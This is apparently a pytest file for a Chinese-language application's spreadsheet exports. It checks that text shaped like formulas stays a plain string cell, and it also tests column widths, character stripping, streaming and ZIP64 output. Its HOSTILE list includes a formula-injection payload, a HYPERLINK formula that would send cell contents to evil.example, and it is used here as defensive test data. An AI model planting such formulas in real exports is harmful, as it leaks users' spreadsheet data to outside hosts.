"""Every .xlsx export writes text as string cells: a name or employer of =HYPERLINK(…) never becomes a formula."""

import hashlib
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import ApplicationStatus, MutualAidCardApplication, Org, User
from app.services import xlsx
from app.services.afterday import card_processing, exports
from app.services.afterday.exports import ExportScope
from app.services.ledger import spreadsheet
from app.services.live import reports
from tests.factories import make_application, make_card, make_enterprise

# What a stranger may type on the H5 page, and the other starts spreadsheet programs treat as formulas.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]


def district() -> User:
    return db.session.scalar(select(User).where(User.username == "district"))


def hostile_data(seeded) -> None:
    venue = seeded.meeting.venues[0]
    for number, text in enumerate(HOSTILE):
        application = make_application(venue, name=text, employer=text, status=ApplicationStatus.APPROVED,
                                       member_no=f"M-{number}")
        make_card(application)
    make_enterprise(db.session.scalar(select(Org).where(Org.name == "仁和镇")), HOSTILE[0], industry=HOSTILE[1])
    seeded.meeting.title = HOSTILE[0]
    venue.place_name = HOSTILE[1]
    db.session.commit()


def all_card_ids() -> list[int]:
    return list(db.session.scalars(select(MutualAidCardApplication.id)))


EXPORTS = {
    "applications": lambda seeded: exports.applications_export(district(), ExportScope(), unmasked=True),
    "member_register": lambda seeded: exports.member_register_export(district(), ExportScope()),
    "bank_file": lambda seeded: card_processing.send_to_bank(district(), all_card_ids()),
    "ledger": lambda seeded: spreadsheet.export_workbook(district()),
    "day_report": lambda seeded: reports.summary_workbook(district(), seeded.meeting),
}


@pytest.mark.parametrize("export", EXPORTS, ids=list(EXPORTS))
def test_user_text_that_looks_like_a_formula_stays_a_string_cell(seeded, export):
    hostile_data(seeded)

    sheet = load_workbook(io.BytesIO(b"".join(EXPORTS[export](seeded).chunks))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value.startswith(HOSTILE[0]) for cell in cells), "the hostile text is in the file"
    assert [cell.value for cell in cells if cell.data_type != "s"] == []


def test_an_id_number_column_is_wide_enough_to_read_every_digit():
    content = xlsx.workbook_bytes("入会申请", ["序号", "身份证号", "工作单位"],
                                  [[1, "110105199001011234", "北京顺义恒通物流有限公司"]])
    sheet = load_workbook(io.BytesIO(content)).active

    assert sheet.column_dimensions["B"].width >= 20
    assert sheet.column_dimensions["C"].width >= 24
    assert sheet.column_dimensions["A"].width < 12


def read_back(rows: list[list]) -> list[tuple]:
    content = xlsx.workbook_bytes("表", ["甲", "乙", "丙"], rows)
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True))


def test_text_comes_back_as_typed_less_the_characters_xml_cannot_hold():
    typed = [[" 顺义 ", "a & b <c> \"d\" 'e'", "第一行\r\n第二行\t完"], ["\x00零\x07", "\ud800孤", "\U0001f600"]]

    assert read_back(typed) == [
        (" 顺义 ", "a & b <c> \"d\" 'e'", "第一行\r\n第二行\t完"), ("零", "孤", "\U0001f600"),
    ]


def test_counts_are_numbers_and_digits_typed_as_text_stay_text():
    (row,) = read_back([[42, "110105199001011234", "0012"]])

    assert row == (42, "110105199001011234", "0012")


def rows_counted(count: int, read: list[int]):
    """Rows that hardly compress (so every batch yields bytes), noting how many have been read."""
    for number in range(count):
        read[0] = number + 1
        yield [number, hashlib.sha256(str(number).encode()).hexdigest(), hashlib.md5(str(number).encode()).hexdigest()]


def test_the_workbook_is_sent_a_batch_at_a_time_from_before_the_first_row_is_read():
    read = [0]
    rows = 20 * xlsx.BATCH_ROWS
    read_at_each_chunk = [read[0] for _chunk in xlsx.stream(xlsx.Sheet("表", ["序号", "甲", "乙"]),
                                                           rows_counted(rows, read))]

    assert read_at_each_chunk[0] == 0
    assert len([n for n in read_at_each_chunk if 0 < n < rows]) >= 5  # pieces sent while rows were still unread
    assert read_at_each_chunk[-1] == rows


def test_the_writer_gives_the_workers_other_requests_a_turn_after_every_batch(monkeypatch):
    turns = []
    monkeypatch.setattr(xlsx.time, "sleep", turns.append)

    xlsx.workbook_bytes("表", ["序号", "甲", "乙"], rows_counted(5 * xlsx.BATCH_ROWS, [0]))

    assert turns == [xlsx.TURN_SECONDS] * 5


def zip_versions(content: bytes) -> dict[str, int]:
    """Each member's 'version needed to extract' in its local header: 45 where ZIP64 fields are written."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {info.filename: int.from_bytes(content[info.header_offset + 4:info.header_offset + 6], "little")
            for info in archive.infolist()}


def test_a_sheet_is_zip64_only_when_it_might_pass_two_gibibytes(monkeypatch):
    sheet = xlsx.Sheet("表", ["序号", "甲", "乙"])
    ordinary = b"".join(xlsx.stream(sheet, rows_counted(10, [0]), expected_rows=10))
    monkeypatch.setattr(xlsx, "CELL_BYTES_CEILING", 2**31)
    huge = b"".join(xlsx.stream(sheet, rows_counted(10, [0]), expected_rows=10))

    assert set(zip_versions(ordinary).values()) == {20}  # what Excel opens without a word
    assert zip_versions(huge)["xl/worksheets/sheet1.xml"] == 45
    assert [len(list(load_workbook(io.BytesIO(content)).active.rows)) for content in (ordinary, huge)] == [11, 11]
